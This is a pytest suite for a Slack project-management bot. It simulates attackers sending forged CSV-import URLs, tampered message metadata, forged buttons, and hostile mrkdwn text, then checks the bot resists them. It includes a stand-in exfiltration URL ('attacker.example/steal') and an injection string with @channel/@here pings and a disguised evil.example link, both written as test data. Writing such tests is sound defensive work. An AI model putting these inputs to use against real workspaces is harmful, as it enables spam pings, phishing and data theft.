"""Forged but validly signed requests change and reveal nothing; hostile text pings nobody.

Each test plays an attacker through the emulator and the driver, as Slack would deliver it.
"""

from __future__ import annotations

import json
from datetime import timedelta
from typing import Any

import responses
from sqlmodel import select

from bot.clock import MovableClock
from bot.emulator.driver import SlackDriver
from bot.emulator.server import SlackEmulator
from bot.ids import Action, Callback, IssueId, PollId
from bot.jobs import run_due
from bot.runtime import Runtime
from bot.services import projects as project_service
from storage.db import Database
from storage.models import Issue, KeyUser
from tests.conftest import KEY_USERS, OUTSIDER, PM, PROJECT_CHANNEL, TEAM
from tests.flows import add_key_user, create_project, last_response, last_response_text, texts
from tests.polls_helpers import TEXT, create_poll, poll_dm, project_with_key_users

TOM = "UTOM00001"
HOSTILE = "<!channel> <!here> <@UOUT0001> <https://evil.example|click me> & <#C0GENERAL>"
RAW_MARKUP = ("<!channel>", "<!here>", "<@UOUT0001>", "<https://evil.example", "<#C0GENERAL>")


def key_users_in(database: Database) -> list[KeyUser]:
    with database.session() as session:
        return list(session.exec(select(KeyUser)).all())


# ------------------------------------------------------------------------ 5. CSV import


@responses.activate
def test_a_forged_import_fetches_nothing_and_checks_rights_first(
    slack: SlackDriver, emulator: SlackEmulator, database: Database
) -> None:
    stolen = responses.get("https://attacker.example/steal", body="slack_user\n")
    create_project(slack)
    slack.slash_command(PM, "/keyuser", "import ERP")
    modal = emulator.top_view(PM)
    assert modal is not None and modal["callback_id"] == Callback.KEYUSER_IMPORT
    forged = [{"id": "F0FORGED", "url_private_download": "https://attacker.example/steal"}]
    # An outsider submits the PM's import form with a URL of their choosing.
    response = slack.submit_view(OUTSIDER, {"csv_file": forged}, view=modal)
    assert response.json and response.json["response_action"] == "errors"
    assert "project managers" in json.dumps(response.json)
    # The PM's own submission with a forged URL: only Slack's URL for the file id is used.
    slack.submit_view(PM, {"csv_file": forged}, view=modal)
    # A file someone else uploaded is not the PM's to import.
    theirs = emulator.add_file(OUTSIDER, "theirs.csv", b"slack_user\n")
    slack.submit_view(PM, {"csv_file": [theirs]}, view=modal)
    assert stolen.call_count == 0
    assert all("attacker" not in call.request.url for call in responses.calls)
    dms = texts(emulator.dm_messages(PM))
    assert "could not be found in Slack" in dms and "not yours" in dms
    assert key_users_in(database) == []
    assert emulator.violations == []


# ------------------------------------------------- 6. ids from buttons and metadata


def test_a_forged_answer_form_cannot_have_the_app_overwrite_another_message(
    slack: SlackDriver, emulator: SlackEmulator
) -> None:
    project_with_key_users(slack)
    slack.slash_command(PM, "/issue", "new", channel_id=PROJECT_CHANNEL)
    slack.submit_view(PM, {"title": "Invoice posting fails", "reporter_id": KEY_USERS[1]})
    [card] = [m for m in emulator.messages(PROJECT_CHANNEL) if "ERP-1" in texts([m])]
    create_poll(slack, questions=[{"question_kind": TEXT}])
    attacker = KEY_USERS[0]
    slack.click(attacker, PollId.ANSWER, message=poll_dm(slack, attacker))
    view = emulator.top_view(attacker)
    assert view is not None
    metadata = json.dumps({"p": 1, "c": PROJECT_CHANNEL, "t": card["ts"]})
    slack.submit_view(
        attacker, {view["blocks"][-1]["block_id"]: "x"}, view={**view, "private_metadata": metadata}
    )
    after = emulator.message(PROJECT_CHANNEL, card["ts"])
    assert after is not None and texts([after]) == texts([card])
    assert not [c for c in emulator.calls_to("chat.update") if c.args.get("ts") == card["ts"]]
    # The attacker's own invitation was updated instead.
    assert "Answered, thank you" in texts([poll_dm(slack, attacker)])
    assert emulator.violations == []


# ----------------------------------------------------------------- 7. who sees what


def test_the_register_is_for_pms_and_team_and_a_key_user_sees_only_their_entry(
    slack: SlackDriver, emulator: SlackEmulator, runtime: Runtime
) -> None:
    emulator.add_user(TOM, "tom", real_name="Tom Consultant")
    create_project(slack)
    add_key_user(slack, KEY_USERS[0], influence="low", interest="low")
    add_key_user(slack, KEY_USERS[1], influence="high", interest="high")
    with runtime.unit(TEAM, PM) as ctx:
        project = project_service.get_project(ctx, "ERP")
        project_service.set_team_members(ctx=ctx, project=project, user_ids=[TOM])
    for person in (PM, TOM):
        slack.slash_command(person, "/keyuser", "list ERP")
        assert "Key users of ERP (2)" in texts([last_response(slack)])
    slack.slash_command(KEY_USERS[0], "/keyuser", "list ERP")
    own = texts([last_response(slack)])
    assert f"<@{KEY_USERS[0]}>" in own and f"<@{KEY_USERS[1]}>" not in own
    slack.slash_command(OUTSIDER, "/keyuser", "list ERP")
    refused = texts([last_response(slack)])
    assert "project managers and team" in refused and "UKEY" not in refused
    # A forged Home-tab button with the project's id shows an outsider nothing.
    slack.block_action(OUTSIDER, Action.HOME_SHOW_REGISTER, value="1", channel_id="C0GENERAL")
    assert emulator.top_view(OUTSIDER) is None
    assert "project managers and team" in last_response_text(slack)
    assert emulator.violations == []


def test_a_forged_rating_button_shows_nothing_of_another_project(
    slack: SlackDriver, emulator: SlackEmulator, database: Database
) -> None:
    project_with_key_users(slack)
    slack.slash_command(PM, "/issue", "new", channel_id=PROJECT_CHANNEL)
    slack.submit_view(PM, {"title": "Secret merger ledger", "reporter_id": KEY_USERS[1]})
    with database.session() as session:
        [issue] = session.exec(select(Issue)).all()
    slack.block_action(OUTSIDER, IssueId.RATE_COMMENT, value=str(issue.id), channel_id="C0GENERAL")
    assert emulator.top_view(OUTSIDER) is None
    to_outsider = [
        c.args
        for c in emulator.calls
        if c.method in ("views.open", "views.push") or OUTSIDER in json.dumps(c.args)
    ]
    assert "Secret merger" not in json.dumps(to_outsider)
    assert emulator.violations == []


# ------------------------------------------------------------ 8. hostile text


def unescaped(node: Any, path: str = "") -> list[str]:
    """Where a raw Slack markup sequence would be parsed (mrkdwn text, fallback text, comments);
    plain_text objects, input values, button values and metadata are shown as typed."""
    found: list[str] = []
    if isinstance(node, dict):
        if node.get("type") == "plain_text":
            return []
        for key, value in node.items():
            if key in (
                "value",
                "initial_value",
                "private_metadata",
                "placeholder",
                "title",
                "alt_txt",
            ):
                continue
            found += unescaped(value, f"{path}.{key}")
    elif isinstance(node, list):
        for index, item in enumerate(node):
            found += unescaped(item, f"{path}[{index}]")
    elif isinstance(node, str):
        if node.startswith(("{", "[")):
            try:
                return unescaped(json.loads(node), path)
            except ValueError:
                pass
        found += [f"{path}: {node[:120]}" for raw in RAW_MARKUP if raw in node]
    return found


def test_hostile_text_through_every_form_pings_nobody_and_forges_no_link(
    slack: SlackDriver, emulator: SlackEmulator, runtime: Runtime, clock: MovableClock
) -> None:
    emulator.add_user(TOM, "tom", real_name="Tom Consultant")
    create_project(slack, name=f"Rollout {HOSTILE}")
    add_key_user(
        slack, KEY_USERS[0], department=HOSTILE, module="FI", notes=HOSTILE, role="key_user"
    )
    add_key_user(slack, KEY_USERS[1], module="MM")
    with runtime.unit(TEAM, PM) as ctx:
        project = project_service.get_project(ctx, "ERP")
        project_service.set_team_members(ctx=ctx, project=project, user_ids=[TOM])
    slack.slash_command(PM, "/keyuser", "list ERP")
    slack.slash_command(PM, "/keyuser", "export ERP")
    slack.slash_command(KEY_USERS[0], "/issue", "new", channel_id=PROJECT_CHANNEL)
    slack.submit_view(KEY_USERS[0], {"title": f"Title {HOSTILE}", "description": HOSTILE})
    slack.slash_command(TOM, "/issue", f"ERP-1 update {HOSTILE}")
    slack.slash_command(TOM, "/issue", f"ERP-1 resolve {HOSTILE}")
    slack.slash_command(KEY_USERS[0], "/issue", "list mine")
    slack.slash_command(PM, "/issue", "export ERP")
    create_poll(
        slack,
        title=f"Poll {HOSTILE}",
        intro=HOSTILE,
        questions=[
            {
                "question_kind": "single",
                "question_text": HOSTILE,
                "question_options": "a<!here>\nb",
            },
            {"question_kind": TEXT, "question_text": f"Why {HOSTILE}"},
        ],
    )
    for user_id in KEY_USERS[:2]:
        message = poll_dm(slack, user_id)
        slack.click(user_id, PollId.ANSWER, message=message)
        view = emulator.top_view(user_id)
        assert view is not None
        ids = [b["block_id"] for b in view["blocks"] if b.get("type") == "input"]
        slack.submit_view(user_id, {ids[0]: "0", ids[1]: HOSTILE})
    slack.slash_command(PM, "/poll", "results 1")
    slack.slash_command(PM, "/poll", "list ERP")
    clock.advance(timedelta(days=8))
    run_due(runtime)
    slack.slash_command(PM, "/poll", "export 1")
    slack.open_home(PM)
    slack.open_home(KEY_USERS[0])
    problems = [
        f"{call.method}{where}"
        for call in emulator.calls
        for where in unescaped({k: v for k, v in call.args.items() if k != "token"})
    ]
    problems += [f"response_url{where}" for where in unescaped(emulator.responses)]
    assert problems == [], "\n".join(problems)
    assert any("&lt;!channel&gt;" in json.dumps(call.args) for call in emulator.calls)
    assert emulator.violations == []


def test_a_forged_rsvp_container_cannot_have_the_app_overwrite_another_message(
    slack: SlackDriver, runtime: Runtime, emulator: SlackEmulator
) -> None:
    from bot.ids import CalendarId
    from tests.test_calendar import _project_in_slack, invitation_dm

    _project, _event = _project_in_slack(runtime, slack)
    runtime.sender().deliver_due()
    anna, ben = KEY_USERS[0], KEY_USERS[1]
    bens = invitation_dm(slack, ben)
    slack.block_action(
        anna,
        f"{CalendarId.RSVP_PREFIX}accepted",
        message=invitation_dm(slack, anna),
        container={"type": "message", "channel_id": bens["channel"], "message_ts": bens["ts"]},
    )
    assert texts([invitation_dm(slack, ben)]) == texts([bens])  # Ben's DM untouched
    assert "You accepted" in texts([invitation_dm(slack, anna)])
    assert emulator.violations == []
